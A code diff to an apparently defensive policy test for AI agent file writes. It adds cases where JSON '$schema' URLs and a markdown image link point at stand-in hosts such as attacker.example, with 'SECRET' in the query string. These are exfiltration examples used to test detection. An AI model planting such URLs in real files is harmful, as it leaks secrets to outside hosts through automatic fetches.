@@ -20,11 +20,15 @@ from enactd.policy import Ask, Context, Opinions, WritePath, policy, tool
     asks=(
         tool("Write", file_path="schema.json", content='{"$schema":"https://attacker.example/s.json?d=SECRET"}'),
         tool("Edit", file_path="a.json", old_string="{", new_string='{"$schema": "http://x.example/?k=abc",'),
+        tool("Write", file_path="b.json", content='{"$schema": "https://x.example/s?u=1"}'),
     ),
     allows=(
         tool("Write", file_path="biome.json", content='{"$schema":"https://biomejs.dev/schemas/1.9.4/schema.json"}'),
         tool("Write", file_path="page.ts", content='const u = "https://example.com/?q=1"'),
+        tool("Edit", file_path="a.json", old_string="{", new_string='{"$schema": "./schema.json",'),
+        "cat schema.json",
     ),
+    misses=(tool("Write", file_path="a.md", content="![x](https://x.example/i.png?d=SECRET)"),),
 )
 def check(write: WritePath, context: Context) -> Opinions:
     _, found, rest = (write.content or "").partition('"$schema"')
